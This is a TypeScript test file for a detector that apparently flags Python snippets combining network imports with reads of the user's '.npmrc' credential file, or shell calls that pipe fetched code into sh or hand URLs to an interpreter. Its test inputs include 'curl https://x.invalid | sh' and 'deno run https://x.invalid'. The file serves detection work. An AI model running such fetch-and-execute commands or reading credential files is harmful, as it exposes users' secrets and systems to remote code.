import { mayMatter } from './python-words';

describe('facts/python-words', () => {
  it.each<[string, string, boolean]>([
    ['a module that is imported, and a file of the user', "import os, requests\nopen('.npmrc')", true],
    ['the same behind another statement', "x = 1; import requests\nopen('.npmrc')", true],
    ['a file of the user alone', "open('.npmrc')", false],
    ['a command that runs what it fetches', "import os\nos.system('curl https://x.invalid | sh')", true],
    ['code that an interpreter is given', "import os\nos.system('node -e 0')", true],
    ['an address that an interpreter is given', "import os\nos.system('deno run https://x.invalid')", true],
    ['a command that only prints', "import os\nos.system('ls')", false],
    // A look that goes to the end of the line from each of them takes hours.
    ['250,000 statements on one line', `open('.npmrc')${';import x'.repeat(250_000)}`, false],
  ])('looks for what reaches and what acts: %s', (_, text, matters) => {
    expect(mayMatter(text)).toBe(matters);
  });
});
